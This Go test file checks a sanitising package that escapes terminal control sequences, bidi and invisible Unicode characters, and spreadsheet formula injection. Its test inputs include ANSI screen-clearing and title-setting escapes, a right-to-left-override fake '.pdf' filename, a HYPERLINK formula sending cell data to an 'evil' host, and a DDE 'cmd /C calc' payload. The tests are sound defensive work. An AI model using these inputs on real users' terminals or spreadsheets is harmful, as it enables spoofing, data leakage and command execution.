package escape

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestText(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{`C:\a b.exe`, `C:\a b.exe`},
		{"caf\u00e9 \u65e5 \U0001f600", "caf\u00e9 \u65e5 \U0001f600"},
		{"a\tb\nc\rd", `a\tb\nc\rd`},
		{"evil\x1b[2Jclear", `evil\x1b[2Jclear`},
		{"title\x1b]0;PWNED\x07", `title\x1b]0;PWNED\x07`},
		{"del\x7f", `del\x7f`},
		{"c1\u009b2Jcsi", `c1\u009b2Jcsi`},
		{"bad\xffutf8\xc3", `bad\xffutf8\xc3`},
		{"invoice\u202eexe.pdf.exe", `invoice\u202eexe.pdf.exe`},
		{"bob\u2066x\u2069", `bob\u2066x\u2069`},
		{"lrm\u200e\u200f", `lrm\u200e\u200f`},
		{"zw\u200bj\u200dbom\ufeff", `zw\u200bj\u200dbom\ufeff`},
		{"arabic mark\u061c", `arabic mark\u061c`},
		{"nbsp\u00a0ls\u2028", `nbsp\u00a0ls\u2028`},
		{"tag\U000e0041", `tag\U000e0041`},
		{"private\ue000", `private\ue000`},
	} {
		if got := Text(tc.in); got != tc.want {
			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzText: whatever goes in, what comes out holds only
// printable, non-format runes.
func FuzzText(f *testing.F) {
	for _, s := range []string{"a\x1b[1m", "\u202e", "\xff\xfe", "\U000e0041", "ok"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Text(s)
		if !utf8.ValidString(out) {
			t.Fatalf("Text(%q) = %q: invalid UTF-8", s, out)
		}
		for _, r := range out {
			if Unsafe(r) {
				t.Fatalf("Text(%q) = %q holds %U", s, out, r)
			}
		}
	})
}

func TestJSON(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		"plain",
		"c1\u009b[2J and del\x7f",
		"invoice\u202eexe.pdf.exe",
		"bidi \u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
		"tag\U000e0041 emoji\U0001f600",
		"esc\x1b and nl\n",
		"quote\" and back\\slash",
	} {
		enc, err := json.Marshal(map[string]string{"k\u202e": in})
		if err != nil {
			t.Fatal(err)
		}
		out := JSON(enc)
		for _, r := range string(out) {
			if Unsafe(r) && r != '\n' {
				t.Errorf("JSON(%s) = %s holds %U", enc, out, r)
			}
		}
		var back map[string]string
		if err := json.Unmarshal(out, &back); err != nil {
			t.Fatalf("JSON(%s) = %s: %v", enc, out, err)
		}
		if back["k\u202e"] != in {
			t.Errorf("JSON(%s) decodes to %q, want %q", enc, back["k\u202e"], in)
		}
	}
	if got := string(JSON([]byte(`"\u009b"`))); got != `"\u009b"` {
		t.Errorf("already escaped: %s", got)
	}
	if got := string(JSON([]byte("[\"\u202e\U000e0041\",\n\t\"\u0085\"]\n"))); got != "[\"\\u202e\\udb40\\udc41\",\n\t\"\\u0085\"]\n" {
		t.Errorf("raw bidi, tag and NEL, whitespace between tokens: %q", got)
	}
}

func TestFormula(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"   ", "   "},
		{"notepad.exe", "notepad.exe"},
		{`=HYPERLINK("http://evil/"&A1,"click")`, `'=HYPERLINK("http://evil/"&A1,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =1+1", "'  =1+1"},
		{"  \t1", "'  \t1"},
		{"a=1", "a=1"},
		{`\\tsclient\c\x.exe`, `\\tsclient\c\x.exe`},
	} {
		if got := Formula(tc.in); got != tc.want {
			t.Errorf("Formula(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in   string
		raw  bool
		want string
	}{
		{"=1+1", false, "'=1+1"},
		{"=1+1", true, "=1+1"},
		{"\t=1", false, `\t=1`}, // escaped first: no longer a formula
		{"a\x1b[5m\u009b\u202e", false, `a\x1b[5m\u009b\u202e`},
		{"a\x1b[5m\u009b\u202e", true, `a\x1b[5m\u009b\u202e`},
	} {
		if got := CSV(tc.in, tc.raw); got != tc.want {
			t.Errorf("CSV(%q, %v) = %q, want %q", tc.in, tc.raw, got, tc.want)
		}
	}
}

func TestFprintf(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	err := errors.New("open d1/evil\x1b]0;PWNED\x07.json: denied")
	Fprintf(&b, "%s: %v, %d error(s), %q\n", "mount\u202e", err, 3, []string{"a\x1b"})
	want := `mount\u202e: open d1/evil\x1b]0;PWNED\x07.json: denied, 3 error(s), "[a\\x1b]"` + "\n"
	if b.String() != want {
		t.Errorf("Fprintf wrote %q, want %q", b.String(), want)
	}
}
